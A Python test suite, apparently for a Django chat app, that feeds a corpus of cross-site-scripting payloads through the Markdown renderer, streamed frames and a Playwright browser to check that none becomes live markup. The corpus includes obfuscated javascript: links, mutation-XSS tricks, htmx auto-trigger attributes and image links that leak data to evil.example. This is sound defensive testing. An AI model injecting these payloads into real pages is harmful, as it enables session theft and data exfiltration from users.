"""Hostile model output: rendered, streamed and reloaded, it never becomes markup, script or a link out."""

import json
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import urljoin, urlsplit

import pytest
from django.template.loader import render_to_string
from playwright.sync_api import Dialog, Page, expect

from conversations.models import Message
from conversations.reasoning import THINK_END, THINK_START
from conversations.rendering import MarkdownStream, ReplyStream, render_markdown
from conversations.services import conversation_create
from tests.browser.conftest import load_earlier_messages, open_page, sign_in
from tests.conftest import make_user
from tests.fake_openai import Reply


def chunks(text: str, count: int = 3) -> list[str]:
    """`text` as `count` stream tokens, cut wherever the lengths fall (mid-tag, mid-URL)."""
    size = -(-len(text) // count)
    return [text[i : i + size] for i in range(0, len(text), size)]


# (name, the tokens the model streams). Each is also sent as the user's own message.
CORPUS: list[tuple[str, list[str]]] = [
    ("script-split", ["<scr", "ipt>alert(1)</scr", "ipt>"]),
    ("script", chunks("<script>alert(document.domain)</script>")),
    ("script-uppercase", chunks("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")),
    ("img-onerror", chunks("<img src=x onerror=alert(1)>")),
    ("img-onerror-split", ["<", "img", " src=x onerror", "=alert(1)>"]),
    ("svg-onload", chunks("<svg onload=alert(1)>")),
    ("svg-script", chunks("<svg><script>alert(1)</script></svg>")),
    ("svg-xlink", chunks('<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>')),
    ("iframe-srcdoc", chunks('<iframe srcdoc="<script>alert(1)</script>"></iframe>')),
    ("object-embed", chunks('<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">')),
    ("md-javascript-split", ["[x](java", "script:alert(1))"]),
    ("md-javascript-mixed-case", chunks("[x](JaVaScRiPt:alert(1))")),
    ("md-javascript-entity-colon", chunks("[x](javascript&#58;alert(1))")),
    ("md-javascript-entity-letters", chunks("[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))")),
    ("md-javascript-entity-tab", chunks("[x](java&#x09;script:alert(1))")),
    ("md-javascript-entity-newline", chunks("[x](jav&#x0A;ascript:alert(1))")),
    ("md-javascript-percent", chunks("[x](%6Aavascript:alert(1))")),
    ("md-javascript-angle", chunks("[x](<javascript:alert(1)>)")),
    ("md-javascript-leading-space", chunks("[x](  javascript:alert(1))")),
    ("md-file", chunks("[x](file:///etc/passwd)")),
    ("md-vbscript", chunks("[x](vbscript:msgbox(1))")),
    ("md-data-html", chunks("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")),
    ("md-image-javascript", chunks("![x](javascript:alert(1))")),
    ("md-image-remote", chunks("![leak](https://evil.example/collect?q=secret)")),
    ("autolink-javascript", chunks("<javascript:alert(1)>")),
    ("autolink-breakout", chunks('<https://example.com/" onmouseover="alert(1)>')),
    ("autolink-javascript-upper", chunks("<JAVASCRIPT:alert(1)>")),
    ("reference-javascript", chunks("[x][1]\n\n[1]: javascript:alert(1)")),
    ("reference-javascript-angle", chunks('[x][r]\n\n[r]: <javascript:alert(1)> "t"')),
    ("link-title-breakout", chunks('[x](https://example.com "t\\" onmouseover=\\"alert(1)")')),
    ("link-destination-breakout", chunks('[x](https://example.com/" onmouseover="alert(1))')),
    ("raw-anchor", chunks('<a href="javascript:alert(1)">x</a>')),
    ("raw-anchor-onclick", chunks('<a href="#" onclick="alert(1)">x</a>')),
    ("style-url", chunks("<style>body{background:url(https://evil.example/x)}</style>")),
    ("style-attribute", chunks('<div style="background:url(javascript:alert(1))">x</div>')),
    (
        "form-formaction",
        chunks("<form action=https://evil.example><button formaction=javascript:alert(1)>go</button></form>"),
    ),
    ("hx-get", chunks('<div hx-get="/accounts/logout/" hx-trigger="load">x</div>')),
    ("hx-on", chunks('<div hx-on:htmx:load="alert(1)" hx-on::load="alert(2)">x</div>')),
    ("data-hx", chunks('<div data-hx-post="/c/x/delete/" data-hx-trigger="load">x</div>')),
    ("entities-script", chunks("&lt;script&gt;alert(1)&lt;/script&gt;")),
    ("entities-numeric-img", chunks("&#60;img src=x onerror=alert(1)&#62;")),
    ("entities-split", ["&l", "t;img src=x onerror=alert(1)&", "gt;"]),
    ("comment-wrapped", ["<!--", "<img src=x onerror=alert(1)>", "-->"]),
    ("mxss-math", chunks("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")),
    ("mxss-noscript", chunks('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')),
    ("base-href", chunks('<base href="javascript:alert(1)//">')),
    ("meta-refresh", chunks('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')),
    ("details-ontoggle", chunks("<details open ontoggle=alert(1)>x</details>")),
    ("input-onfocus", chunks("<input autofocus onfocus=alert(1)>")),
    ("fenced-html", chunks("```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```")),
    ("fence-info-breakout", chunks('```" onmouseover="alert(1)\nx\n```')),
    ("inline-code", chunks("`<img src=x onerror=alert(1)>`")),
    ("table-cell", chunks("| a |\n|---|\n| <img src=x onerror=alert(1)> |")),
    ("template-script", chunks("<template><script>alert(1)</script></template>")),
]

# What a rendered message may contain at all: Markdown's own output, the streaming
# placeholder's elements, and nothing else.
SAFE_TAGS = {
    *("a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "span", "strong"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
SAFE_ATTRIBUTES = {"href", "title", "class", "start", "rel"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Elements that would run, load or restyle something: never allowed among the messages.
DENIED_TAGS = {
    *("script", "iframe", "frame", "object", "embed", "img", "svg", "math", "video", "audio", "source"),
    *("style", "link", "meta", "base", "template", "noscript"),
}


def test_the_corpus_is_large_enough():
    assert len({name for name, _tokens in CORPUS}) == len(CORPUS) >= 30


# --- The renderer alone ---------------------------------------------------------------------------


def scheme_of(href: str) -> str:
    """The scheme a browser would follow `href` with, from a page of the site."""
    return urlsplit(urljoin("https://chat.example.com/c/1/", href)).scheme


class Offences(HTMLParser):
    """Every tag, attribute or link in a piece of HTML that a message must not carry."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            if name == "href" and scheme_of(value or "") not in SAFE_SCHEMES:
                self.found.append(f"<{tag} href={value!r}>")


@pytest.mark.parametrize(("name", "tokens"), CORPUS, ids=[name for name, _ in CORPUS])
def test_hostile_markdown_renders_to_safe_html(name, tokens):
    html = render_markdown("".join(tokens))

    assert Offences(str(html)).found == []


class ThinkingText(HTMLParser):
    """The elements inside a frame's thinking text (where the model's reasoning goes)."""

    VOID = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "wbr"})

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self._inside = 0  # depth below a thinking text container, 0 outside
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if self._inside:
            self.elements.append(self.get_starttag_text() or tag)
            if tag not in self.VOID:
                self._inside += 1
        elif values.get("class") == "thinking-text" or "msg-7-think" in (values.get("hx-swap-oob") or ""):
            self._inside = 1

    def handle_endtag(self, tag: str) -> None:
        if self._inside:
            self._inside -= 1


class Frame(HTMLParser):
    """A streamed frame: its own top-level elements, and what the model's text put inside them."""

    VOID = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "wbr"})

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.html = html
        self.top: list[tuple[str, dict[str, str | None]]] = []
        self.inside = ""
        self._depth = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self._depth == 0:
            self.top.append((tag, dict(attrs)))
        else:
            self.inside += self.get_starttag_text() or ""
        if tag not in self.VOID:
            self._depth += 1

    def handle_endtag(self, tag: str) -> None:
        self._depth -= 1

    def handle_data(self, data: str) -> None:
        if self._depth > 0 and not data.isspace():
            self.inside += "x"


@pytest.mark.parametrize(("name", "tokens"), CORPUS, ids=[name for name, _ in CORPUS])
def test_each_streamed_frame_carries_only_sanitised_markdown(name, tokens):
    """Each frame is the page's two swaps and the stop's counter; the model's text inside is
    Markdown sanitised like a finished reply, however the payload is cut across tokens."""
    reply = SimpleNamespace(pk=7)
    stream = MarkdownStream()
    for seq, token in enumerate(tokens, start=1):
        stream.feed(token)
        done, tail = stream.take()
        context = {"reply": reply, "done": done, "tail": tail, "seq": seq}
        frame = Frame(render_to_string("chat/frames/delta.html", context))

        swaps = [("div", {"hx-swap-oob": "innerHTML:#msg-7-tail"})]
        if done:
            swaps.insert(0, ("div", {"hx-swap-oob": "beforebegin:#msg-7-tail"}))
        stop = ("input", {"type": "hidden", "name": "seen", "id": "stop-seen", "value": str(seq)})
        assert frame.top == [*swaps, (stop[0], {**stop[1], "hx-swap-oob": "outerHTML"})]
        assert Offences(frame.inside).found == []
        assert Offences(str(done) + str(tail)).found == []


@pytest.mark.parametrize(("name", "tokens"), CORPUS, ids=[name for name, _ in CORPUS])
def test_a_models_thinking_reaches_the_page_as_text_only(name, tokens):
    """Reasoning is never Markdown or markup: each frame adds it as escaped text, and the
    block that closes it when the answer begins holds escaped text too."""
    reply = SimpleNamespace(pk=7, created_at=None)
    stream = ReplyStream()
    deltas = [THINK_START + tokens[0], *tokens[1:], THINK_END + "answer"]
    for seq, delta in enumerate(deltas, start=1):
        frame = Frame(
            render_to_string(
                "chat/frames/delta.html",
                {**stream.feed(delta).__dict__, "reply": reply, "seq": seq, "thought_ms": 1000},
            )
        )
        thinking = [
            attrs
            for tag, attrs in frame.top
            if "msg-7-think" in (attrs.get("hx-swap-oob") or "") or attrs.get("id") == "msg-7-thinking"
        ]
        assert thinking or not stream.reasoning
        assert ThinkingText(frame.html).elements == []  # the model's text made no element
    assert stream.reasoning == "".join(tokens)


# --- In a real browser -------------------------------------------------------------------------------

# Installed before any page script; runs outside the page's CSP (Playwright injects it).
WATCHER = """
(() => {
  const ALLOWED = __ALLOWED__;
  const TAGS = new Set(ALLOWED.tags);
  const ATTRIBUTES = new Set(ALLOWED.attributes);
  const SCHEMES = new Set(ALLOWED.schemes);
  // Never anywhere among the messages or the conversation list (edit boxes, titles...).
  const DENIED = new Set(ALLOWED.denied);
  const seen = [];
  const csp = [];
  // The page script's own copy button, put before a code block: a plain button, no more.
  function ownCodeButton(el) {
    return el.localName === "button" && el.className === "code-copy" && el.getAttribute("type") === "button"
      && [...el.attributes].every((attr) => attr.name === "type" || attr.name === "class")
      && el.nextElementSibling !== null && el.nextElementSibling.localName === "pre";
  }
  // A user's own attached image: from this site's attachment route only, in its link.
  const IMAGE_ATTRIBUTES = ["class", "src", "alt", "width", "height", "loading"];
  function fromAttachments(url) {
    try {
      const parsed = new URL(url, document.baseURI);
      return parsed.origin === location.origin && parsed.pathname.startsWith("/attachments/");
    } catch (e) {
      return false;
    }
  }
  function ownImage(el) {
    if (el.localName === "div" && el.className === "msg-images") return true;
    const link = el.localName === "a" && el.className === "msg-image-link";
    if (link) return fromAttachments(el.getAttribute("href"));
    return el.localName === "img" && el.className === "msg-image" && fromAttachments(el.getAttribute("src"))
      && el.parentElement.className === "msg-image-link"
      && [...el.attributes].every((attr) => IMAGE_ATTRIBUTES.includes(attr.name));
  }
  function offences(el) {
    if (ownCodeButton(el)) return [];
    const found = [];
    if (!TAGS.has(el.localName)) found.push(`<${el.localName}>`);
    for (const attr of el.attributes) {
      if (!ATTRIBUTES.has(attr.name)) found.push(`<${el.localName} ${attr.name}>`);
    }
    if (el.hasAttribute("href")) {
      let scheme;
      try {
        scheme = new URL(el.getAttribute("href"), document.baseURI).protocol;
      } catch (e) {
        scheme = "?";
      }
      if (!SCHEMES.has(scheme)) found.push(`<${el.localName} href=${el.getAttribute("href")}>`);
    }
    return found;
  }
  function outsideOffences(el) {
    if (ownImage(el)) return [];
    const found = DENIED.has(el.localName) ? [`<${el.localName}> outside a message body`] : [];
    for (const attr of el.attributes) {
      if (attr.name.startsWith("on")) found.push(`<${el.localName} ${attr.name}> outside a message body`);
    }
    return found;
  }
  function inMessage(el) {
    return el.parentElement !== null && el.parentElement.closest(".msg-body") !== null;
  }
  window.__xss = {
    seen,
    csp,
    scan() {
      const found = [];
      for (const el of document.querySelectorAll(".msg-body *")) found.push(...offences(el));
      for (const el of document.querySelectorAll(".conv-title, .chat-title")) {
        for (const child of el.children) found.push(`<${child.localName}> in a title`);
      }
      for (const el of document.querySelectorAll("#messages *, #conversation-list *, #chat-header *")) {
        found.push(...outsideOffences(el));
      }
      return found;
    },
  };
  document.addEventListener("securitypolicyviolation", (event) => {
    csp.push(`${event.violatedDirective} ${event.blockedURI}`);
  });
  new MutationObserver((records) => {
    for (const record of records) {
      const nodes = record.type === "attributes" ? [record.target] : [...record.addedNodes];
      for (const node of nodes) {
        if (node.nodeType !== Node.ELEMENT_NODE) continue;
        for (const el of [node, ...node.querySelectorAll("*")]) {
          if (inMessage(el)) seen.push(...offences(el));
          if (el.closest("#messages, #conversation-list")) seen.push(...outsideOffences(el));
        }
      }
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
})();
""".replace(
    "__ALLOWED__",
    json.dumps(
        {
            # The streaming placeholder's own elements come and go inside the message body too.
            "tags": sorted(SAFE_TAGS | {"div", "i"}),
            "attributes": sorted(SAFE_ATTRIBUTES | {"id", "aria-label", "aria-hidden"}),
            "schemes": sorted(f"{scheme}:" for scheme in SAFE_SCHEMES),
            "denied": sorted(DENIED_TAGS),
        }
    ),
)


@pytest.fixture
def watched_page(browser, csp_violations) -> tuple[Page, list[str]]:
    """A page that records dialogs, CSP reports and every element added to a message."""
    page = open_page(browser, csp_violations)
    page.add_init_script(WATCHER)
    dialogs: list[str] = []

    def record(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", record)
    return page, dialogs


def injections(page: Page, dialogs: list[str], csp_violations: list[str]) -> dict[str, list[str]]:
    return {
        "dialogs": dialogs,
        "added to a message": page.evaluate("window.__xss.seen"),
        "in the page": page.evaluate("window.__xss.scan()"),
        "csp events": page.evaluate("window.__xss.csp"),
        "csp console": csp_violations,
    }


NOTHING: dict[str, list[str]] = {
    "dialogs": [],
    "added to a message": [],
    "in the page": [],
    "csp events": [],
    "csp console": [],
}


@pytest.mark.django_db(transaction=True)
def test_hostile_replies_streamed_live_inject_nothing(app_servers, fake_openai, watched_page, csp_violations):
    live_app = app_servers(CHAT_LIMIT_MESSAGES_PER_MINUTE="0")  # the corpus is sent faster than 20 a minute
    make_user("alice")
    page, dialogs = watched_page
    sign_in(page, live_app, "alice")

    for count, (_name, tokens) in enumerate(CORPUS, start=1):
        fake_openai.queue_reply(Reply(tokens=tokens))
        page.fill("#message-input", "".join(tokens))
        page.keyboard.press("Enter")
        expect(page.locator(".msg-assistant.status-complete")).to_have_count(count)

    assert injections(page, dialogs, csp_violations) == NOTHING


@pytest.mark.django_db(transaction=True)
def test_hostile_replies_reloaded_from_history_inject_nothing(live_app, watched_page, csp_violations):
    alice = make_user("alice")
    conversation = conversation_create(owner=alice, title="".join(CORPUS[0][1]))
    for _name, tokens in CORPUS:
        Message.objects.create(conversation=conversation, author="user", content="".join(tokens))
        Message.objects.create(conversation=conversation, author="assistant", content="".join(tokens))
    page, dialogs = watched_page
    sign_in(page, live_app, "alice")

    page.goto(f"{live_app.url}c/{conversation.pk}/")
    page.wait_for_selector("#connection-state[data-state=open]")
    load_earlier_messages(page)  # the earlier ones come in as fragments, rendered the same way

    expect(page.locator(".msg-assistant.status-complete")).to_have_count(len(CORPUS))
    assert injections(page, dialogs, csp_violations) == NOTHING
